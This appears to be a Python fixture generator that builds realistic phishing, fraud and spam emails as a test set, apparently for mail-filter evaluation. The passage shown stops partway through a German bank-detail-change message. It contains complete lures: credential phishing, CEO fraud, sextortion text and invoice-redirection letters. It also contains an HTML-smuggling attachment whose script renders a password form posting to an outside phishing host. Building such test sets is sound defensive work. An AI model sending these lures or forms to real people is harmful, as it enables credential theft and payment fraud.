"""Hostile / unwanted messages (attack set)."""
import base64

from common import msg, T, H, Alt, Mixed, Rel, Att, AR, A, S, D, b64url, rhex, rstr, \
    PDF_CT, ZIP_CT, DOCM_CT
from profiles import m365, gmail, gmx, postfix, phpmailer, sendgrid, bigsender, yandex, \
    outlook_desktop_msgid
import mimelib

K = "attack"

# ----------------------------------------------------------------------------------------------
# 01 en - credential lure, direct spoof of own domain, Bing open-redirect, hidden preheader text
# ----------------------------------------------------------------------------------------------
target = "https://m365-auth.kv-sync7.workers.dev/?e=" + base64.b64encode(b"e.clarke@example.com").decode()
bing = ("https://www.bing.com/ck/a?!&&p=5b1f0c7e2d4a9b63e8f1a0c4d7b2e9f16a3c8d0e1f2b4a7c9d6e3f0a1b2c4d5e"
        "JmltdHM9MTc2NDAzNTIwMA&ptn=3&ver=2&hsh=4&fclid=2b7e4c19-8d3a-6f21-0c5e-4a9d1b7f3e62&u=a1"
        + b64url(target) + "&ntb=1")
html01 = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#f3f2f1">
<div style="display:none;max-height:0;overflow:hidden;font-size:1px;line-height:1px;color:#f3f2f1">Canteen menu for week 49, car park resurfacing on Saturday and the date of the Christmas party. Have a good week.</div>
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" style="background:#f3f2f1"><tr><td align="center" style="padding:24px 8px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Segoe UI',Tahoma,Arial,sans-serif;color:#323130">
<tr><td style="padding:20px 32px;border-bottom:1px solid #edebe9"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108" height="24" alt="Microsoft"></td></tr>
<tr><td style="padding:28px 32px 8px 32px;font-size:22px;color:#0078d4">Password expiry notice</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;line-height:20px">
<p>Hello Emma,</p>
<p>The password for your Example Group account <b>e.clarke@example.com</b> is set to expire on <b>Tuesday, 24 November 2026 at 17:00 GMT</b>.</p>
<p>In line with the group security policy you can keep your current password by confirming it before it expires. If no action is taken you will be signed out of Outlook, Teams and OneDrive on all devices and will need to contact the service desk to regain access.</p>
</td></tr>
<tr><td style="padding:16px 32px 24px 32px"><a href="%s" style="background:#0078d4;color:#ffffff;font-size:14px;font-weight:600;padding:10px 22px;text-decoration:none;display:inline-block">Keep current password</a></td></tr>
<tr><td style="padding:8px 32px 28px 32px;font-size:12px;color:#605e5c">This notification was sent to e.clarke@example.com by the Example Group Microsoft 365 administrator. Please do not reply to this message; this mailbox is not monitored.<br><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>
</table>
<p style="font-size:1px;color:#f3f2f1">ticket 7f3a2c91 ref&nbsp;Q4-teams-rollout</p>
</td></tr></table></body></html>""" % bing
mf01 = "bounce-2611@vetclinic-sunnyside.com"
msg(K, 1, "en", "m365-password-expiry",
    "Credential lure spoofing the company's own domain (DMARC fail) as a Microsoft 365 password-expiry notice, HTML-only, hidden preheader text and a Bing open-redirect to a workers.dev phishing page.",
    postfix("mail.vetclinic-sunnyside.com", "88.198.152.77", rdns="static.77.152.198.88.clients.your-server.de",
            sign=False, spf="neutral", dmarc=None, bstyle="generic"),
    from_=("Microsoft 365 Admin", "no-reply@example.com"), mailfrom=mf01,
    to=[S("clarke")], subject="Action required: your Example Group password expires in 24 hours",
    date="2026-11-23 07:58:12 +0000", charset="utf-8", cte="quoted-printable",
    auth=AR(spf=("neutral", mf01, "88.198.152.77"), dkim=[("none",)],
            dmarc=("fail", "example.com", "p=quarantine dis=quarantine")),
    msgid="<%s@example.com>" % "b7c1e0f24a9d4e6c8f13a5d7e2b90c41",
    add_headers=[("X-Priority", "1 (Highest)"), ("Importance", "High")],
    body=H(html01))

# ----------------------------------------------------------------------------------------------
# 02 en - abuse of genuine DocuSign infrastructure
# ----------------------------------------------------------------------------------------------
g1, g2, g3 = "8f2c41d7-3b6e-4a90-b1d5-7e0c9a2f4b63", "c4e19a72-0d58-4f3b-9a6e-21b7d3f80c5e", "5a0d7e93-1c4b-48f2-a7e6-9b3c0f1d2e84"
ds_link = "https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (g1, g2, g3)
ds_text = """Finance Department sent you a document to review and sign.

REVIEW DOCUMENT
%s

Finance Department
hr-payroll@examplegroup-hr.com

Oliver,

Please review and acknowledge the Q4 2026 bonus allocation and the revised 2027 commission plan. Acknowledgement is required from all sales staff before 4 December so that payroll can include the bonus in the December run.

Kind regards,
Finance Department

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.

Stop receiving this email
Report this email or read more about Declining to sign and Managing notifications.

This message was sent to you by Finance Department who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.
""" % (ds_link, "E1B5F0C27A9D4B3E8C6F2A0D7B19E4C5")
ds_html = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="padding:2%%;background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table width="100%%" style="max-width:640px;background:#ffffff" align="center" cellpadding="0" cellspacing="0">
<tr><td style="padding:10px 24px"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="Docusign" width="116"></td></tr>
<tr><td style="padding:0 24px 30px 24px;background:#1e4ca1;color:#ffffff;text-align:center">
<table width="100%%"><tr><td align="center" style="padding-top:24px"><img src="https://eu.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""></td></tr>
<tr><td align="center" style="font-size:16px;padding-top:24px">Finance Department sent you a document to review and sign.</td></tr>
<tr><td align="center" style="padding-top:30px"><a href="%s" style="background:#ffc423;color:#333333;font-size:15px;font-weight:bold;padding:0 24px;line-height:44px;display:inline-block;text-decoration:none;border-radius:2px">REVIEW DOCUMENT</a></td></tr></table></td></tr>
<tr><td style="padding:24px;font-size:16px;color:#333333;line-height:20px"><b>Finance Department</b><br><a href="mailto:hr-payroll@examplegroup-hr.com" style="color:#666666;font-size:14px">hr-payroll@examplegroup-hr.com</a><br><br>Oliver,<br><br>Please review and acknowledge the Q4 2026 bonus allocation and the revised 2027 commission plan. Acknowledgement is required from all sales staff before 4 December so that payroll can include the bonus in the December run.<br><br>Kind regards,<br>Finance Department</td></tr>
<tr><td style="padding:0 24px 12px 24px;background:#ffffff;font-size:11px;color:#666666;line-height:14px"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: E1B5F0C27A9D4B3E8C6F2A0D7B19E4C5<br><br><b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br><b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>This message was sent to you by Finance Department who is using the Docusign Electronic Signature Service.</td></tr>
</table></body></html>""" % ds_link
msg(K, 2, "en", "docusign-abuse",
    "Genuine DocuSign envelope (all authentication passes) sent from an attacker-run DocuSign account posing as 'Finance Department' with a bonus-allocation lure; reply-to on a look-alike domain.",
    bigsender("mailfra.eu.docusign.net", "185.81.100.88", "docusign.net", "s1", mf="dse@eumail.docusign.net",
              msgid_fmt=lambda r, dt: "<%s@eumail.docusign.net>" % rhex(r, 32), bstyle="java"),
    from_=("Finance Department via Docusign", "dse@eumail.docusign.net"),
    reply_to=("Finance Department", "hr-payroll@examplegroup-hr.com"),
    to=[S("bennett")], subject="Complete with Docusign: Q4_2026_Bonus_Allocation_and_Commission_Plan.pdf",
    date="2026-11-24 10:41:07 +0000", charset="utf-8", cte="base64",
    add_headers=[("X-DocuSign-Envelope-Id", g1.upper()), ("X-Auto-Response-Suppress", "All")],
    body=Alt(T(ds_text), H(ds_html)))

# ----------------------------------------------------------------------------------------------
# 03 en - CEO fraud from look-alike domain, plain text, no links, "sent from iPhone"
# ----------------------------------------------------------------------------------------------
msg(K, 3, "en", "ceo-fraud-lookalike",
    "CEO-fraud opener from a fully authenticated look-alike domain (exarnple.com) impersonating the CEO, asking the UK finance controller for a confidential same-day transfer; no links or attachments.",
    postfix("mail.exarnple.com", "193.149.185.33", dmarc=("pass", "p=none dis=none"), bstyle="apple",
            mailer=("X-Mailer", "iPhone Mail (23B85)"),
            msgid=lambda r, d, dt: "<%s-%s-%s-%s-%s@%s>" % (rhex(r, 8, True), rhex(r, 4, True), rhex(r, 4, True), rhex(r, 4, True), rhex(r, 12, True), d)),
    from_=("Thomas Brandt", "t.brandt@exarnple.com"), to=[S("clarke")],
    subject="Quick favour - confidential", date="2026-11-24 13:42:51 +0100",
    charset="us-ascii", cte="7bit",
    body=T("""Emma,

Are you at your desk? I need you to handle a confidential payment for me today.

We are closing the acquisition of a small forwarding company in Rotterdam and the notary needs the deposit before 15:00 CET, otherwise we lose the exclusivity. I'm in back-to-back meetings with the lawyers, so email only please - I can't take calls.

Please don't discuss this with anyone in the office until the announcement next week. Sabine is aware.

Reply with how quickly you can process a same-day transfer of EUR 48,750 from the UK account and I will send you the beneficiary details straight away.

Thanks,
Thomas

Sent from my iPhone""", params=[("format", "flowed")]))

# ----------------------------------------------------------------------------------------------
# 04 en - sextortion with BTC address, self-spoof, soft hyphen obfuscation
# ----------------------------------------------------------------------------------------------
btc04 = A.btc_bech32("audit16-attack-04")
msg(K, 4, "en", "sextortion-btc",
    "Sextortion claiming malware access and webcam recordings, sent 'from' the victim's own address via a botnet host, demanding USD 1,450 to a bech32 BTC address, words broken with soft hyphens.",
    None, helo="[189.203.45.112]", rdns="customer-189-203-45-112.uninet-ide.com.mx", ip="189.203.45.112", tls=None,
    from_=("Emma Clarke", "e.clarke@example.com"), mailfrom="e.clarke@example.com", to=[S("clarke")],
    subject="e.clarke@example.com - your account has been compromised (case 71034)",
    date="2026-11-25 03:17:44 -0600", charset="windows-1252", cte="quoted-printable",
    auth=AR(spf=("fail", "e.clarke@example.com", "189.203.45.112"), dkim=[("none",)],
            dmarc=("fail", "example.com", "p=quarantine dis=quarantine")),
    msgid="<000a01db3f1c$7e2b4c10$4a8d1e30$@example.com>", bstyle="generic",
    headers=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("X-MimeOLE", "Produced By Microsoft MimeOLE V6.00.2900.5512"), ("X-Priority", "3")],
    body=T("""Hello!

I have to share bad news with you.
Approximately a few months ago I gained access to the devices you use for browsing the internet.
After that, I started tracking your internet activities.

Here is the sequence of events:
Some time ago I bought access to email accounts from hackers (nowadays it is quite simple to buy such things online).
Obviously, I easily managed to log in to your email account (e.clarke@example.com) - as you can see, this message was sent from it.

One week later I installed a Tro\u00adjan virus on the operating systems of all the devices you use to access your email.
It was not hard at all, since you were following links from your inbox.

This software gives me access to your camera, microphone and screen. I downloaded all your data, photos, web browsing history and the contact list of your colleagues at Example Group.

I made a double-screen video: one part shows the video you were watching (you have good taste, haha), and the other part shows the recording from your web camera.

Do not worry, I am ready to delete everything. All you need to do is transfer USD 1450 to my Bit\u00adcoin wallet. Consider it a donation.
You can find instructions for buying Bit\u00adcoin by searching "how to buy bit\u00adcoin" on Google.

My BTC wallet (copy and paste it): %s

You have 48 hours from the moment you opened this email. I have a special pixel in this message, so I know you read it.
If I do not receive the payment, the video will be sent to all your contacts, including your colleagues and clients.

Do not try to reply to this email or contact the police - it is useless, the mail was sent through anonymous servers and I am watching your mailbox.
Change your pass\u00adword after payment, it will not help you before.
""" % btc04))

# ----------------------------------------------------------------------------------------------
# 05 en - fake DHL notice with HTML-smuggling attachment
# ----------------------------------------------------------------------------------------------
form = ("<div style=\"font-family:Arial;max-width:380px;margin:60px auto;border:1px solid #ddd;padding:24px\">"
        "<img src=\"https://www.dhl.com/content/dam/dhl/global/core/images/logos/dhl-logo.svg\" width=\"140\">"
        "<h3>Sign in to view your shipment documents</h3><p>Document: AWB_6480391275.pdf (2 pages)</p>"
        "<form method=\"post\" action=\"https://dhl-awb-docs.pages.dev/next.php\">"
        "<input name=\"email\" value=\"{{EMAIL}}\" readonly style=\"width:100%;padding:8px\"><br><br>"
        "<input name=\"pass\" type=\"password\" placeholder=\"Email password\" style=\"width:100%;padding:8px\"><br><br>"
        "<button style=\"background:#d40511;color:#fff;border:0;padding:10px 20px\">View Document</button></form></div>")
html_att = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>DHL | Document Viewer</title><meta name="robots" content="noindex, nofollow"></head>
<body style="background:#ffcc00">
<!-- AUDIT16 TEST PLACEHOLDER: inert credential-form mock-up, the target domain is fictitious -->
<script>
var em = "o.bennett@example.com";
var _p = "%s";
document.write(atob(_p).replace("{{EMAIL}}", em));
</script>
<noscript>Please enable JavaScript to view this document.</noscript>
</body></html>
""" % base64.b64encode(form.encode()).decode()
msg(K, 5, "en", "dhl-html-attachment",
    "Fake DHL import-duty notice sent from a compromised small-business mailbox (SPF/DKIM pass for that domain) carrying an HTML-smuggling attachment that renders a pre-filled credential form.",
    postfix("mail.studio-bellini-arch.it", "89.46.104.77", rdns="smtp104-77.register.it", dmarc=("pass", "p=none dis=none"),
            bstyle="thunderbird", mailer=("User-Agent", "Roundcube Webmail/1.6.9")),
    from_=("DHL Express", "info@studio-bellini-arch.it"), to=[S("bennett")],
    subject="DHL Express: Shipment 6480391275 on hold - import duty unpaid",
    date="2026-11-25 09:06:33 +0100", charset="utf-8", cte="base64",
    body=Mixed(H("""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="background:#ffcc00;padding:14px"><b style="color:#d40511;font-size:22px;letter-spacing:1px">DHL</b> <span style="font-size:12px">EXPRESS</span></div>
<p>Dear Customer,</p>
<p>Your shipment <b>6480391275</b> from <b>SHENZHEN, CN</b> has arrived at our Manchester gateway and is currently <b>on hold</b>.</p>
<p>Import duty and VAT of <b>GBP 3.40</b> must be confirmed before we can release the parcel for delivery. Please open the attached Air Waybill document in your browser to review the shipment details and confirm the payment.</p>
<p>If the charges are not settled within 3 working days the shipment will be returned to the sender.</p>
<p>Kind regards,<br>DHL Express Customer Service</p>
<p style="font-size:11px;color:#888">This is an automated notification. Please do not reply.<br>&copy; 2026 DHL International GmbH. All rights reserved.</p>
</body></html>"""), Att("AWB_6480391275_DHL.html", html_att, "text/html", charset="utf-8")))

# ----------------------------------------------------------------------------------------------
# 06 en - callback (TOAD) scam via genuine PayPal invoicing
# ----------------------------------------------------------------------------------------------
inv = "INV2-7KQX-9WDF-3LTB-H2PM"
pp_note = ("Your Geek Squad Total Tech Support plan has been renewed for 3 years. Amount charged: $499.99. "
           "If you did not authorise this renewal or wish to cancel and receive a full refund, call our billing department "
           "immediately at +1 (888) 502-6714. Refunds are only possible within 24 hours of this notice.")
msg(K, 6, "en", "paypal-callback",
    "Telephone-oriented (callback) scam abusing genuine PayPal invoicing: authenticated PayPal mail carrying a fake USD 499.99 'Geek Squad renewal' with a phone number in the seller note.",
    bigsender("mx0.slc.paypal.com", "173.0.84.225", "paypal.com", "pp-dkim1", mf="service@paypal.com",
              msgid_fmt=lambda r, dt: "<%s.%d@ccg01mail%02d>" % (rhex(r, 13), r.randint(10**5, 10**6), r.randint(1, 9)),
              hdrs=[("X-MaxCode-Template", "PPX001498"), ("X-Email-Type-Id", "PPX001498")]),
    from_=("service@paypal.com", "service@paypal.com"), to=[S("shah")],
    subject="Invoice from Geek Squad Renewal Desk (#0047)",
    date="2026-11-25 06:12:09 -0800", charset="utf-8", cte="quoted-printable",
    body=Alt(T("""Geek Squad Renewal Desk sent you an invoice for $499.99 USD

Due on receipt

Seller note to customer:
%s

View and Pay Invoice:
https://www.paypal.com/invoice/p/#%s

Invoice number: 0047
Amount requested: $499.99 USD

Don't recognise this invoice?
Report this invoice

Before paying, make sure you recognise this invoice. If you don't, report it. Learn more about common security threats and how to spot them. For example, PayPal would never use an invoice or a money request to ask you for your account credentials.

Copyright (c) 1999-2026 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.
""" % (pp_note, inv)), H("""<html><body style="margin:0;background:#f2f2f2"><table align="center" width="600" style="background:#fff;font-family:'PayPal Sans',Helvetica,Arial,sans-serif;color:#001435">
<tr><td style="padding:24px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="46" alt="PayPal"></td></tr>
<tr><td style="padding:0 24px;font-size:28px;font-weight:bold">Geek Squad Renewal Desk sent you an invoice for $499.99 USD</td></tr>
<tr><td style="padding:12px 24px;font-size:14px">Due on receipt</td></tr>
<tr><td style="padding:12px 24px;font-size:14px;background:#f7f9fa"><b>Seller note to customer</b><br>%s</td></tr>
<tr><td style="padding:24px"><a href="https://www.paypal.com/invoice/p/#%s" style="background:#003087;color:#fff;padding:12px 28px;border-radius:24px;text-decoration:none;font-weight:bold">View and Pay Invoice</a></td></tr>
<tr><td style="padding:12px 24px;font-size:13px">Invoice number: 0047<br>Amount requested: $499.99 USD</td></tr>
<tr><td style="padding:12px 24px;font-size:12px;color:#687173">Don't recognise this invoice? <a href="https://www.paypal.com/invoice/p/%s/report">Report this invoice</a><br><br>Before paying, make sure you recognise this invoice. PayPal would never use an invoice or a money request to ask you for your account credentials.<br><br>Copyright &copy; 1999-2026 PayPal, Inc. All rights reserved.</td></tr>
</table></body></html>""" % (pp_note, inv, inv))))

# ----------------------------------------------------------------------------------------------
# 07 en - QR-code quishing in a PDF, sent from a compromised M365 tenant
# ----------------------------------------------------------------------------------------------
qr07 = "https://pub-7c2f1e9a04b84d6d9a1c3e5f7a9b1c3d.r2.dev/auth/index.html#" + base64.b64encode(b"e.clarke@example.com").decode()
pdf07 = A.pdf([[("Example Group - IT Security", 16, True), "",
                ("Microsoft Authenticator re-enrolment", 13, True), "",
                "Reference: SEC-2611 / e.clarke@example.com",
                "Deadline: Friday 27 November 2026, 17:00 GMT", "",
                "As part of the group-wide migration to phishing-resistant multi-factor authentication,",
                "all existing Authenticator registrations will be reset. Accounts that are not",
                "re-enrolled before the deadline will be blocked from Outlook, Teams and VPN.", "",
                ("How to re-enrol (takes 2 minutes):", 11, True),
                "1. Unlock your mobile phone and open the camera app.",
                "2. Scan the QR code below.",
                "3. Sign in with your Example Group credentials and approve the prompt.", "",
                "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "",
                "For security reasons this code is personal and valid for 72 hours.",
                "Do not forward this document. IT Service Desk, ext. 4400"]],
              title="MFA Re-enrolment", author="IT Service Desk", created=D("2026-11-25 08:02"),
              qr=(0, qr07, 56, 190, 3.2))
msg(K, 7, "en", "qr-mfa-pdf",
    "QR-code phishing ('quishing'): MFA re-enrolment lure from a compromised third-party Microsoft 365 tenant, with the phishing URL only inside a QR code drawn in an attached PDF.",
    m365("40.107.20.63", dc="AM6", reg="EUR05", tenant="AM9PR08MB6145", region="eurprd08", lang="en-GB",
         dmarc_pol="p=none dis=none", attach=True),
    from_=("Example Group IT Service Desk", "reception@brightwell-dental.co.uk"), to=[S("clarke")],
    subject="Mandatory MFA re-enrolment - Authenticator policy update (ref. SEC-2611)",
    date="2026-11-25 08:14:27 +0000", charset="utf-8", cte="quoted-printable",
    body=Mixed(Alt(T("""Dear colleague,

Please find attached the instructions for the mandatory Microsoft Authenticator re-enrolment.

Scan the QR code in the document with your phone camera and complete the re-enrolment before 27/11/2026 to avoid interruption of your sign-in.

Kind regards,
IT Service Desk
"""), H("""<html><body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Dear colleague,</p><p>Please find attached the instructions for the mandatory Microsoft Authenticator re-enrolment.</p>
<p>Scan the QR code in the document with your phone camera and complete the re-enrolment before <b>27/11/2026</b> to avoid interruption of your sign-in.</p>
<p>Kind regards,<br>IT Service Desk</p></div></body></html>""")),
               Att("MFA_Reenrolment_SEC-2611.pdf", pdf07, PDF_CT)))

# ----------------------------------------------------------------------------------------------
# 08 en - genuine Google Drive share from a compromised partner account
# ----------------------------------------------------------------------------------------------
drive = "https://drive.google.com/file/d/1mQ7ZrT4xKp2Vb9sLcN0aWfYd3HgUe8Jo/view?usp=sharing_eil_se_dm&ts=6745a1b2"
note08 = ("Hi Emma, as discussed please find our updated statement with the outstanding invoices and our new "
          "remittance details for payments from December. Please confirm once you have reviewed. Best regards, Tomasz")
msg(K, 8, "en", "gdrive-share-compromised-partner",
    "Genuine Google Drive share notification (google.com, all checks pass) triggered from the compromised account of the Polish logistics partner, pointing to a 'statement with new remittance details'.",
    bigsender("mail-sor-f69.google.com", "209.85.220.69", "google.com", "20230601",
              mf=lambda r: "3%s@doclist.bounces.google.com" % rstr(r, 40),
              msgid_fmt=lambda r, dt: "<%s@google.com>" % rstr(r, 36),
              hdrs=[("X-Google-Id", "%d" % 918273), ("Feedback-ID", "P-10-0:C20060867:M110136315-en:gamma"),
                    ("X-Notifications", "GAMMA:<b5e1c2d4e7f8a9b0.1764158401.%s@gamma.google.com>" % "2e6f")]),
    from_=("Tomasz Zieliński (via Google Drive)", "drive-shares-dm-noreply@google.com"),
    reply_to=("Tomasz Zieliński", "t.zielinski@partner-logistik.pl"),
    to=[S("clarke")], subject='Document shared with you: "Statement_ExampleGroupUK_Nov2026.pdf"',
    date="2026-11-26 04:40:01 -0800", charset="utf-8", cte="quoted-printable",
    body=Alt(T("""Tomasz Zieliński shared a document

Tomasz Zieliński (t.zielinski@partner-logistik.pl) has invited you to view the following document:

Statement_ExampleGroupUK_Nov2026.pdf
Open: %s

"%s"

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
You have received this email because t.zielinski@partner-logistik.pl shared a document with you from Google Drive.
""" % (drive, note08)), H("""<!doctype html><html><body style="background:#fff;font-family:'Google Sans',Roboto,Arial,sans-serif">
<table width="100%%" style="max-width:516px;margin:auto"><tr><td style="padding:24px 0"><img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" alt="Google"></td></tr>
<tr><td style="font-size:22px;color:#202124">Tomasz Zieliński shared a document</td></tr>
<tr><td style="padding:16px 0;font-size:14px;color:#3c4043">Tomasz Zieliński (<a href="mailto:t.zielinski@partner-logistik.pl">t.zielinski@partner-logistik.pl</a>) has invited you to <b>view</b> the following document:</td></tr>
<tr><td style="padding:16px;border:1px solid #dadce0;border-radius:8px;font-size:14px">%s</td></tr>
<tr><td style="padding:12px 0"><a href="%s" style="background:#1a73e8;color:#fff;border-radius:4px;padding:8px 24px;text-decoration:none">Statement_ExampleGroupUK_Nov2026.pdf</a></td></tr>
<tr><td style="padding-top:24px;font-size:12px;color:#5f6368">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because t.zielinski@partner-logistik.pl shared a document with you from Google Drive.</td></tr>
</table></body></html>""" % (note08, drive))))

# ----------------------------------------------------------------------------------------------
# 09 en - task / job scam from a consumer Outlook.com account, fake "Re:"
# ----------------------------------------------------------------------------------------------
t09 = """Hi Oliver,

Thanks for your interest in the position. As mentioned, our client – a UK-based digital marketing agency – is hiring remote "App Optimisation Assistants". The work is simple: you complete 40 short tasks a day on our partner platform (rating apps and hotels to boost their visibility), around 60–90 minutes in total.

• Pay: £350–£900 per day, commission paid daily in USDT or by bank transfer
• No experience needed, full training by a personal mentor
• Fully remote, you can keep your current job

To get started please add our onboarding coordinator on WhatsApp: +44 7520 318664 (Ms Hannah) and mention reference code TP-2611.

Places for this onboarding round close on Friday.

Kind regards,
Sarah Mitchell
Senior Recruitment Consultant
Talent Partners Recruitment Ltd
"""
msg(K, 9, "en", "job-task-scam",
    "Task-based job scam from a consumer Outlook.com account with a fake 'Re:' subject, promising GBP 350-900 per day paid in USDT and moving the victim to WhatsApp.",
    m365("40.92.58.17", dc="AM0", reg="EUR02", tenant="PA4P189MB1473", region="EURP189", lang="en-GB",
         dmarc_pol="p=none dis=none", consumer=True),
    from_=("Sarah Mitchell | Talent Partners", "sarah.mitchell.talentpartners@outlook.com"), to=[S("bennett")],
    subject="Re: Your profile – flexible remote role (2–3 h/day, paid daily)",
    date="2026-11-26 16:22:48 +0000", charset="utf-8", cte="base64",
    body=Alt(T(t09), H("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body><div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt\">"
                       + t09.replace("\n\n", "</div><div><br></div><div>").replace("\n", "<br>") + "</div></body></html>")))

# ----------------------------------------------------------------------------------------------
# 10 en - lead-list / SEO pitch through SendGrid
# ----------------------------------------------------------------------------------------------
t10 = """Hi James,

Hope you're doing well.

Would you be interested in acquiring the Verified Attendee List of LogiMAT 2027 (Stuttgart) and Multimodal 2027 (Birmingham) for your pre-show marketing?

Attendee count:
  LogiMAT 2027 – 21,480 contacts
  Multimodal 2027 – 9,215 contacts

Each record includes: Contact Name, Job Title, Company Name, Email, Phone Number, Website, Industry, Employee Size and Country. Data is GDPR-compliant and verified within the last 30 days.

We also provide:
  • Google first-page SEO packages (guaranteed top-3 rankings in 90 days)
  • Freight forwarder / 3PL decision-maker lists for UK, DE, PL and IT

If interested, reply with your target audience and I'll send counts, pricing and a free sample file.

Best regards,
Daniel Harper | Demand Generation Manager
B2B Lead Solutions

If you are not interested, please reply with "Leave Out" in the subject line.
"""
msg(K, 10, "en", "lead-list-seo-pitch",
    "Unsolicited trade-fair attendee-list and SEO pitch sent through SendGrid with a branded return path; classic lead-list spam.",
    sendgrid("149.72.143.17", "o3.ptr7781.b2b-leadsolutions.info"),
    from_=("Daniel Harper", "daniel.harper@b2b-leadsolutions.info"), to=[S("whitfield")],
    subject="LogiMAT 2027 & Multimodal 2027 - Verified Attendee Lists",
    date="2026-11-26 14:03:19 +0000", charset="utf-8", cte="quoted-printable",
    body=Alt(T(t10), H("<html><body><p style=\"font-family:Arial;font-size:13px\">" + t10.replace("\n\n", "</p><p style=\"font-family:Arial;font-size:13px\">").replace("\n", "<br>")
                       + "</p><img src=\"https://u4412877.ct.sendgrid.net/wf/open?upn=u001.Xk3bT9vQm2\" width=\"1\" height=\"1\" alt=\"\"></body></html>")))

# ----------------------------------------------------------------------------------------------
# 11 de - supplier bank-detail change from look-alike domain, PDF letter
# ----------------------------------------------------------------------------------------------
iban11 = A.iban("DE", "11010100" + "2746019835")
pdf11 = A.pdf([[("Lieferant GmbH", 16, True), "Industriestraße 14 · 90441 Nürnberg", "", "",
                "Example Group GmbH", "Buchhaltung / Kreditoren", "90402 Nürnberg", "",
                "Nürnberg, 23.11.2026", "",
                ("Mitteilung über die Änderung unserer Bankverbindung", 12, True), "",
                "Sehr geehrte Damen und Herren,", "",
                "wir teilen Ihnen mit, dass wir im Zuge der Neuorganisation unseres Zahlungsverkehrs",
                "unsere Hausbank gewechselt haben. Unser bisheriges Konto bei der Sparkasse Nürnberg",
                "wird zum 30.11.2026 geschlossen. Bitte verwenden Sie ab sofort ausschließlich:", "",
                "Kontoinhaber:  Lieferant GmbH",
                "Kreditinstitut:  Solaris SE",
                "IBAN:  " + A.fmt_iban(iban11),
                "BIC:  SOBKDEBBXXX", "",
                "Zahlungen auf das bisherige Konto können ab dem 01.12.2026 nicht mehr gutgeschrieben werden.", "",
                "Mit freundlichen Grüßen", "", "",
                "Klaus Reinhardt, Geschäftsführer", "",
                "Lieferant GmbH · Amtsgericht Nürnberg HRB 28417 · USt-IdNr. DE812345679"]],
              title="Bankverbindung", author="Petra Lang", created=D("2026-11-23 15:48"))
msg(K, 11, "de", "bankdetails-lookalike",
    "Supplier bank-detail change (payment redirection) from the fully authenticated look-alike domain lieferant-gmhb.de, naming two real-looking open invoices and a signed-looking PDF letter with a neobank IBAN.",
    m365("40.107.162.91", dc="FR2", reg="DEU01", tenant="FR2P281MB2214", region="DEUP281", lang="de-DE",
         dmarc_pol="p=none dis=none", attach=True),
    from_=("Petra Lang", "p.lang@lieferant-gmhb.de"), to=[S("hoffmann")], cc=["buchhaltung@example.com"],
    subject="Änderung unserer Bankverbindung – Lieferant GmbH (Kd.-Nr. 10447)",
    date="2026-11-24 11:26:40 +0100", charset="iso-8859-15", cte="quoted-printable",
    body=Mixed(T("""Sehr geehrte Frau Hoffmann,

im Rahmen der Neuorganisation unseres Zahlungsverkehrs haben wir unsere Hausbank gewechselt. Unser bisheriges Konto bei der Sparkasse Nürnberg wird zum 30.11.2026 geschlossen; Zahlungseingänge auf dieses Konto werden ab dem 01.12.2026 nicht mehr angenommen und automatisch zurückgebucht.

Bitte hinterlegen Sie in Ihren Stammdaten ab sofort die folgende Bankverbindung:

Kontoinhaber: Lieferant GmbH
Bank: Solaris SE
IBAN: %s
BIC: SOBKDEBBXXX

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang.

Betroffen sind insbesondere die folgenden offenen Posten, die wir Sie bitten, bereits auf das neue Konto zu überweisen:

RE-2026-11873 vom 03.11.2026   14.382,60 €
RE-2026-11901 vom 09.11.2026    6.915,00 €

Um Verzögerungen im Jahresabschluss zu vermeiden, wären wir Ihnen für eine kurze Bestätigung per E-Mail dankbar, sobald die Änderung erfasst ist. Telefonisch bin ich diese Woche wegen der Abschlussarbeiten leider nur eingeschränkt erreichbar.

Mit freundlichen Grüßen

Petra Lang
Buchhaltung

Lieferant GmbH
Industriestraße 14 · 90441 Nürnberg
Tel. +49 911 6549-230
p.lang@lieferant-gmbh.de
